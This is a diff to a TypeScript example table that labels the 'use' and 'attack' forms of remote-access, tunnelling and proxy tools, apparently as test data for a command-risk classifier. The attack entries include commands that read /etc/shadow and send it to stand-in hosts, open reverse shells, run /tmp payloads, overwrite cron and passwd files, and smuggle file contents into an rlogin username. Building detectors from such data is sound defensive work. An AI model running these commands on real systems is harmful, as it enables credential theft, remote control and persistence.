@@ -2,10 +2,10 @@ import type { ExampleTable } from './example.ts'
 
 export const remoteAccess1: ExampleTable = {
   clush: {
-    use: 'clush cat notes.txt → read notes.txt',
+    use: 'clush -w node1,node2 cat notes.txt → read notes.txt; send node1,node2',
     attack: [
-      'clush cat /etc/shadow → read /etc/shadow',
-      'clush --hostfile=/etc/shadow cat notes.txt → read /etc/shadow; read notes.txt',
+      'clush -w node1 cat /etc/shadow → read /etc/shadow; send node1',
+      'clush --hostfile=/etc/shadow uptime → read /etc/shadow',
     ],
   },
   dbclient: {
@@ -16,42 +16,41 @@ export const remoteAccess1: ExampleTable = {
     ],
   },
   dsh: {
-    use: 'dsh cat notes.txt → read notes.txt',
+    use: 'dsh -m web1 cat notes.txt → read notes.txt; send web1',
     attack: [
-      'dsh cat /etc/shadow → read /etc/shadow',
-      'dsh -f /etc/shadow cat notes.txt → read /etc/shadow; read notes.txt',
+      'dsh -r /tmp/x -m web1 uptime → run /tmp/x; send web1',
+      'dsh -m web1 cat /etc/shadow → read /etc/shadow; send web1',
     ],
   },
   et: {
-    use: `et db.example.org 'cat notes.txt' → read notes.txt; send db.example.org`,
-    attack: `et db.example.org 'cat /etc/shadow' → read /etc/shadow; send db.example.org`,
+    use: `et db.example.org -c 'cat notes.txt' → read notes.txt; send db.example.org`,
+    attack: `et db.example.org -c 'cat /etc/shadow' → read /etc/shadow; send db.example.org`,
   },
   mosh: {
-    use: 'mosh db.example.org cat notes.txt → read notes.txt; send db.example.org',
+    use: 'mosh db.example.org -- cat notes.txt → read notes.txt; send db.example.org',
     attack: [
-      'mosh db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
-      'mosh --ssh=/tmp/x db.example.org cat notes.txt → run /tmp/x; read notes.txt; send db.example.org',
+      'mosh db.example.org -- cat /etc/shadow → read /etc/shadow; send db.example.org',
+      'mosh --ssh=/tmp/x db.example.org → run /tmp/x; send db.example.org',
     ],
   },
-  mssh: {
-    use: 'mssh db.example.org → send db.example.org',
-  },
+  mssh: { use: 'mssh db.example.org → send db.example.org' },
   pdsh: {
-    use: 'pdsh cat notes.txt → read notes.txt',
-    attack: 'pdsh cat /etc/shadow → read /etc/shadow',
+    use: 'pdsh -w web1 cat notes.txt → read notes.txt; send web1',
+    attack: 'pdsh -w web1 cat /etc/shadow → read /etc/shadow; send web1',
   },
   plink: {
-    use: 'plink db.example.org cat notes.txt → read notes.txt; send db.example.org',
+    use: 'plink -pw secret db.example.org cat notes.txt → read notes.txt; send db.example.org',
     attack: [
       'plink db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
-      'plink -m /etc/shadow db.example.org cat notes.txt → read /etc/shadow; read notes.txt; send db.example.org',
+      'plink -m /etc/shadow db.example.org → read /etc/shadow; send db.example.org',
+      'plink -proxycmd /tmp/x db.example.org → run /tmp/x; send db.example.org',
     ],
   },
   pssh: {
-    use: 'pssh cat notes.txt → read notes.txt',
+    use: 'pssh -h hosts.txt -i cat notes.txt → read hosts.txt; read notes.txt',
     attack: [
-      'pssh cat /etc/shadow → read /etc/shadow',
-      'pssh -h /etc/shadow cat notes.txt → read /etc/shadow; read notes.txt',
+      'pssh -h hosts.txt -i cat /etc/shadow → read hosts.txt; read /etc/shadow',
+      'pssh -h /etc/shadow uptime → read /etc/shadow',
     ],
   },
   rexec: {
@@ -59,7 +58,8 @@ export const remoteAccess1: ExampleTable = {
     attack: 'rexec db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
   },
   rlogin: {
-    use: 'rlogin db.example.org → send db.example.org',
+    use: 'rlogin -l ann db.example.org → send db.example.org',
+    attack: 'rlogin -l "$(cat /etc/passwd)" 192.0.2.7 → send 192.0.2.7',
   },
   rsh: {
     use: 'rsh db.example.org cat notes.txt → read notes.txt; send db.example.org',
@@ -70,257 +70,185 @@ export const remoteAccess1: ExampleTable = {
     attack: `sexec db.example.org 'cat /etc/shadow' → read /etc/shadow; send db.example.org`,
   },
   'ssh-copy-id': {
-    use: 'ssh-copy-id https://example.org/up → send https://example.org/up',
+    use: 'ssh-copy-id -i ann.pub ann@example.org → read ann.pub; send ann@example.org',
     attack: [
-      'ssh-copy-id https://example.org/up -i /etc/shadow → read /etc/shadow; send https://example.org/up',
-      'ssh-copy-id https://example.org/up -F /etc/shadow → read /etc/shadow; send https://example.org/up',
+      'ssh-copy-id -f -i eve.pub root@localhost → privilege ssh-copy-id; read eve.pub; send root@localhost',
+      'ssh-copy-id -F /etc/shadow ann@example.org → read /etc/shadow; send ann@example.org',
     ],
   },
   sshpass: {
-    use: 'sshpass cat notes.txt → read notes.txt',
-    attack: ['sshpass cat /etc/shadow → read /etc/shadow', 'sshpass bash → shell bash'],
+    use: 'sshpass -f pass.txt ssh db.example.org uptime → connect db.example.org',
+    attack: 'sshpass -p secret bash → shell bash',
   },
   telnet: {
     use: 'telnet db.example.org 23 → send db.example.org',
-    attack:
-      'telnet db.example.org 23 -n /etc/cron.d/job → send db.example.org; write /etc/cron.d/job',
+    attack: 'telnet -n /etc/cron.d/job 192.0.2.7 23 → send 192.0.2.7; write /etc/cron.d/job',
   },
-  cryptcat: {
-    use: 'cryptcat db.example.org 80 → fetch db.example.org:80',
-  },
+  cryptcat: { use: 'cryptcat db.example.org 80 → fetch db.example.org:80' },
   dnscat: {
     use: 'dnscat db.example.org → fetch db.example.org',
+    attack: 'dnscat --exec /bin/sh 192.0.2.7 → shell sh',
   },
-  dnscat2: {
-    use: 'dnscat2 db.example.org → fetch db.example.org',
-  },
-  fwknop: {
-    use: 'fwknop -D db.example.org → send db.example.org',
-    attack: 'fwknop --rc-file=/etc/shadow → read /etc/shadow',
-  },
+  dnscat2: { use: 'dnscat2 db.example.org → fetch db.example.org' },
+  fwknop: { use: 'fwknop -A tcp/22 -a 192.0.2.9 -D db.example.org → send db.example.org' },
   'gnutls-cli': {
-    use: 'gnutls-cli db.example.org → send db.example.org',
+    use: 'gnutls-cli --save-cert=server.pem db.example.org → send db.example.org; write server.pem',
     attack: [
-      'gnutls-cli db.example.org --save-cert=/etc/cron.d/job → send db.example.org; write /etc/cron.d/job',
-      'gnutls-cli db.example.org --logfile=/etc/cron.d/job → send db.example.org; write /etc/cron.d/job',
+      'gnutls-cli --save-cert=/etc/passwd db.example.org → send db.example.org; write /etc/passwd',
+      'gnutls-cli --logfile=/etc/cron.d/job db.example.org → send db.example.org; write /etc/cron.d/job',
     ],
   },
   'gnutls-serv': {
-    use: 'gnutls-serv → listen 5556',
-    attack: [
-      'gnutls-serv --dhparams=/etc/shadow → read /etc/shadow; listen 5556',
-      'gnutls-serv --provider=/tmp/x.so → load /tmp/x.so; listen 5556',
-    ],
+    use: 'gnutls-serv --port 8443 --x509keyfile server.key --x509certfile server.pem → listen 8443',
+    attack: 'gnutls-serv --provider=/tmp/x.so → load /tmp/x.so; listen 5556',
   },
-  'gs-netcat': {
-    attack: 'gs-netcat → remote-shell gs-netcat',
-  },
+  'gs-netcat': { attack: 'gs-netcat -s secret -l -i → remote-shell gs-netcat' },
   gsocket: {
-    use: 'gsocket cat notes.txt → read notes.txt',
-    attack: ['gsocket cat /etc/shadow → read /etc/shadow', 'gsocket bash → shell bash'],
+    use: 'gsocket -s secret cat notes.txt → read notes.txt',
+    attack: [
+      'gsocket -s secret cat /etc/shadow → read /etc/shadow',
+      'gsocket -s secret bash → shell bash',
+    ],
   },
   hose: {
-    use: 'hose db.example.org 80 cat notes.txt → read notes.txt; send db.example.org',
+    use: 'hose db.example.org 80 --out cat notes.txt → read notes.txt; send db.example.org',
     attack: [
-      'hose db.example.org 80 cat /etc/shadow → read /etc/shadow; send db.example.org',
-      'hose db.example.org 80 bash → shell bash; send db.example.org',
+      'hose 192.0.2.7 443 --out cat /etc/shadow → read /etc/shadow; send 192.0.2.7',
+      'hose 192.0.2.7 443 --slave bash → shell bash; send 192.0.2.7',
     ],
   },
-  knock: {
-    use: 'knock db.example.org → send db.example.org',
-  },
-  pwncat: {
-    use: 'pwncat db.example.org 80 → fetch db.example.org:80',
-  },
-  'pwncat-cs': {
-    attack: 'pwncat-cs → session pwncat-cs',
-  },
-  rcat: {
-    use: 'rcat → nothing',
-  },
-  s_client: {
-    use: 's_client db.example.org → send db.example.org',
-  },
-  sbd: {
-    use: 'sbd db.example.org 80 → fetch db.example.org:80',
-  },
+  knock: { use: 'knock db.example.org 7000 8000 → send db.example.org' },
+  pwncat: { use: 'pwncat db.example.org 80 → fetch db.example.org:80' },
+  'pwncat-cs': { attack: 'pwncat-cs -lp 4444 → session pwncat-cs' },
+  rcat: { use: 'rcat → nothing' },
+  sbd: { use: 'sbd db.example.org 80 → fetch db.example.org:80' },
   tcpclient: {
     use: 'tcpclient db.example.org 80 cat notes.txt → read notes.txt; send db.example.org',
     attack: [
-      'tcpclient db.example.org 80 cat /etc/shadow → read /etc/shadow; send db.example.org',
-      'tcpclient db.example.org 80 bash → shell bash; send db.example.org',
+      'tcpclient 192.0.2.7 443 cat /etc/shadow → read /etc/shadow; send 192.0.2.7',
+      'tcpclient 192.0.2.7 443 bash → shell bash; send 192.0.2.7',
     ],
   },
-  krdc: {
-    use: 'krdc db.example.org → send db.example.org',
-  },
-  novnc: {
-    use: 'novnc → listen 6080',
-  },
-  rdesktop: {
-    use: 'rdesktop db.example.org → send db.example.org',
-  },
+  krdc: { use: 'krdc rdp://db.example.org → send rdp://db.example.org' },
+  novnc: { use: 'novnc --listen 6080 --vnc localhost:5900 → listen 6080' },
+  rdesktop: { use: 'rdesktop db.example.org → send db.example.org' },
   vncpasswd: {
-    use: 'vncpasswd out.txt → write out.txt',
-    attack: 'vncpasswd /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'vncpasswd .vnc/passwd → write .vnc/passwd',
+    attack: 'vncpasswd /etc/passwd → write /etc/passwd',
   },
   vncserver: {
-    use: 'vncserver → listen 5901',
-    attack: 'vncserver --xstartup=/tmp/x.sh → run /tmp/x.sh; read /tmp/x.sh; listen 5901',
+    use: 'vncserver :1 -geometry 1280x800 → listen 5901',
+    attack: 'vncserver :1 -xstartup /tmp/x.sh → run /tmp/x.sh; read /tmp/x.sh; listen 5901',
   },
-  vncviewer: {
-    use: 'vncviewer db.example.org → send db.example.org',
-  },
-  wayvnc: {
-    use: 'wayvnc → listen 5900',
-  },
-  x0vncserver: {
-    use: 'x0vncserver → listen 5900',
-  },
+  vncviewer: { use: 'vncviewer db.example.org → send db.example.org' },
+  wayvnc: { use: 'wayvnc → listen 5900' },
+  x0vncserver: { use: 'x0vncserver → listen 5900' },
   x11vnc: {
-    use: 'x11vnc → listen 5900',
+    use: 'x11vnc -display :0 -rfbauth .vnc/passwd → listen 5900',
     attack: [
-      'x11vnc --gone=/tmp/x → run /tmp/x; listen 5900',
-      `x11vnc --gone='cat /etc/shadow' → read /etc/shadow; listen 5900`,
+      'x11vnc -gone /tmp/x → run /tmp/x; listen 5900',
+      `x11vnc -afteraccept 'cat /etc/shadow' → read /etc/shadow; listen 5900`,
     ],
   },
   xpra: {
-    use: `xpra --start='cat notes.txt' → read notes.txt`,
+    use: `xpra start :100 --start='cat notes.txt' → read notes.txt`,
     attack: [
-      'xpra --start=/tmp/x → run /tmp/x',
-      `xpra --start='cat /etc/shadow' → read /etc/shadow`,
+      'xpra start :100 --start=/tmp/x → run /tmp/x',
+      `xpra start :100 --start='cat /etc/shadow' → read /etc/shadow`,
     ],
   },
-  xrdp: {
-    use: 'xrdp → listen 3389',
-  },
-  Xvnc: {
-    use: 'Xvnc → listen 5900',
-  },
-  bore: {
-    use: 'bore → listen bore',
-  },
-  chisel: {
-    use: 'chisel → listen chisel',
-  },
-  cloudflared: {
-    use: 'cloudflared → listen cloudflared',
-  },
+  xrdp: { use: 'xrdp → listen 3389' },
+  Xvnc: { use: 'Xvnc → listen 5900' },
+  bore: { use: 'bore local 8000 --to bore.pub → listen bore' },
+  chisel: { use: 'chisel server --port 8080 → listen chisel' },
+  cloudflared: { use: 'cloudflared tunnel --url http://localhost:8000 → listen cloudflared' },
   corkscrew: {
-    use: 'corkscrew db.example.org 8080 db.example.org 22 app.key → send db.example.org',
+    use: 'corkscrew proxy.example.org 8080 db.example.org 22 auth.txt → send proxy.example.org',
   },
-  dns2tcp: {
-    use: 'dns2tcp → listen dns2tcp',
-  },
-  frpc: {
-    use: 'frpc → listen frpc',
-    attack: 'frpc -c /etc/shadow → read /etc/shadow; listen frpc',
-  },
-  frps: {
-    use: 'frps → listen',
-    attack: 'frps -c /etc/shadow → read /etc/shadow; listen',
-  },
-  gost: {
-    use: 'gost → listen gost',
-  },
+  dns2tcp: { use: 'dns2tcp -z t1.example.org -r ssh → listen dns2tcp' },
+  frpc: { use: 'frpc -c frpc.toml → read frpc.toml; listen frpc' },
+  frps: { use: 'frps -c frps.toml → read frps.toml; listen' },
+  gost: { use: 'gost -L :8080 → listen gost' },
   htc: {
-    use: 'htc db.example.org → listen htc; send db.example.org',
+    use: 'htc -F 2222 db.example.org:8888 → listen 2222; listen htc; send db.example.org:8888',
   },
-  hts: {
-    use: 'hts → listen',
-  },
-  icmptunnel: {
-    use: 'icmptunnel → listen icmptunnel',
-  },
-  iodine: {
-    use: 'iodine → listen iodine',
-  },
-  iodined: {
-    use: 'iodined → listen 53',
-  },
-  localtunnel: {
-    use: 'localtunnel → listen localtunnel',
-  },
-  ngrok: {
-    use: 'ngrok → listen ngrok',
-  },
-  pagekite: {
-    use: 'pagekite → listen pagekite',
-  },
+  hts: { use: 'hts -F localhost:22 8888 → listen; send localhost:22' },
+  icmptunnel: { use: 'icmptunnel -s → listen icmptunnel' },
+  iodine: { use: 'iodine -P secret t1.example.org → listen iodine' },
+  iodined: { use: 'iodined -P secret 10.0.0.1 t1.example.org → listen 53' },
+  localtunnel: { use: 'localtunnel --port 8000 → listen localtunnel' },
+  ngrok: { use: 'ngrok http 8000 → listen ngrok' },
+  pagekite: { use: 'pagekite 8000 ann.pagekite.me → listen pagekite' },
   proxytunnel: {
-    use: 'proxytunnel -p db.example.org → send db.example.org',
+    use: 'proxytunnel -p proxy.example.org:8080 -d db.example.org:22 → send proxy.example.org:8080',
   },
-  ptunnel: {
-    use: 'ptunnel → listen ptunnel',
-  },
-  'ptunnel-ng': {
-    use: 'ptunnel-ng → listen ptunnel-ng',
-  },
+  ptunnel: { use: 'ptunnel -p db.example.org -lp 8000 -da db.example.org -dp 22 → listen ptunnel' },
+  'ptunnel-ng': { use: 'ptunnel-ng -p db.example.org -l 8000 → listen ptunnel-ng' },
   rathole: {
-    use: 'rathole app.conf → read app.conf; listen rathole',
+    use: 'rathole client.toml → read client.toml; listen rathole',
     attack: 'rathole /etc/shadow → read /etc/shadow; listen rathole',
   },
-  revsocks: {
-    use: 'revsocks → listen revsocks',
-  },
+  revsocks: { use: 'revsocks -listen :8443 -socks 127.0.0.1:1080 -pass secret → listen revsocks' },
   ser2net: {
-    use: 'ser2net → listen 2000',
+    use: 'ser2net -c ser2net.yaml → read ser2net.yaml; listen 2000',
+    attack: 'ser2net -P /etc/cron.d/job → listen 2000; write /etc/cron.d/job',
+  },
+  ssf: { use: 'ssf -D 9000 db.example.org → listen ssf' },
+  sshuttle: {
+    use: 'sshuttle -r ann@db.example.org 10.0.0.0/8 → send ann@db.example.org',
     attack: [
-      'ser2net -c /etc/shadow → read /etc/shadow; listen 2000',
-      'ser2net -P /etc/cron.d/job → listen 2000; write /etc/cron.d/job',
+      'sshuttle -e /tmp/x -r ann@db.example.org 10.0.0.0/8 → run /tmp/x; send ann@db.example.org',
+      'sshuttle -r ann@db.example.org -s /etc/shadow → read /etc/shadow; send ann@db.example.org',
     ],
   },
-  ssf: {
-    use: 'ssf → listen ssf',
-  },
-  sshuttle: {
-    use: 'sshuttle -r db.example.org → send db.example.org',
-    attack: ['sshuttle -e /tmp/x → run /tmp/x', 'sshuttle -s /etc/shadow → read /etc/shadow'],
-  },
-  sslh: {
-    use: 'sslh → listen',
-  },
+  sslh: { use: 'sslh → listen' },
   stunnel: {
-    use: 'stunnel app.conf → read app.conf',
-    attack: 'stunnel /etc/shadow → read /etc/shadow',
+    use: 'stunnel stunnel.conf → read stunnel.conf',
+    attack: [
+      'stunnel /tmp/stunnel.conf → run /tmp/stunnel.conf',
+      'stunnel /etc/shadow → read /etc/shadow',
+    ],
   },
-  telebit: {
-    use: 'telebit → listen telebit',
-  },
-  zrok: {
-    use: 'zrok → listen zrok',
-  },
+  telebit: { use: 'telebit http 8000 → listen telebit' },
+  zrok: { use: 'zrok share public http://localhost:8000 → listen zrok' },
   '3proxy': {
-    use: '3proxy app.conf → read app.conf; listen',
-    attack: '3proxy /etc/shadow → read /etc/shadow; listen',
+    use: '3proxy 3proxy.cfg → read 3proxy.cfg; listen',
+    attack: '3proxy /tmp/3proxy.cfg → run /tmp/3proxy.cfg; listen',
   },
-  microsocks: {
-    use: 'microsocks → listen 1080',
-  },
+  microsocks: { use: 'microsocks → listen 1080' },
   mitmdump: {
-    use: 'mitmdump → listen 8080',
+    use: 'mitmdump -s addon.py -w flows.mitm → read addon.py; listen 8080; write flows.mitm',
     attack: [
       'mitmdump -s /etc/shadow → read /etc/shadow; listen 8080',
       'mitmdump -w /etc/cron.d/job → listen 8080; write /etc/cron.d/job',
     ],
   },
   mitmproxy: {
-    use: 'mitmproxy -s main.py → read main.py',
+    use: 'mitmproxy -s addon.py → read addon.py',
     attack: [
       'mitmproxy -s /etc/shadow → read /etc/shadow',
       'mitmproxy -w /etc/cron.d/job → write /etc/cron.d/job',
     ],
   },
-  nyx: {
-    use: 'nyx -c app.conf → read app.conf',
-    attack: 'nyx -c /etc/shadow → read /etc/shadow',
-  },
+  nyx: { use: 'nyx -c nyxrc → read nyxrc' },
   privoxy: {
-    use: 'privoxy app.conf → read app.conf; listen 8118',
+    use: 'privoxy privoxy.conf → read privoxy.conf; listen 8118',
     attack: 'privoxy /etc/shadow → read /etc/shadow; listen 8118',
   },
   redsocks: {
-    use: 'redsocks -c app.conf → read app.conf',
+    use: 'redsocks -c redsocks.conf → read redsocks.conf',
     attack: 'redsocks -c /etc/shadow → read /etc/shadow',
   },
+  'rcat connect': { attack: 'rcat connect -s bash 192.0.2.7 443 → run bash' },
+  'rcat listen': { attack: 'rcat listen -e /tmp/x 4444 → run /tmp/x' },
+  socket: {
+    use: 'socket db.example.org 80 → send db.example.org',
+    attack: 'socket -p /tmp/x 192.0.2.7 443 → run /tmp/x; send 192.0.2.7',
+  },
+  websockify: {
+    use: 'websockify 6080 localhost:5900 → listen; send localhost:5900',
+    attack:
+      'websockify --log-file=/etc/cron.d/job 6080 localhost:5900 → listen; write /etc/cron.d/job',
+  },
+  cssh: { use: 'cssh web1 web2 → send web1; send web2' },
 }
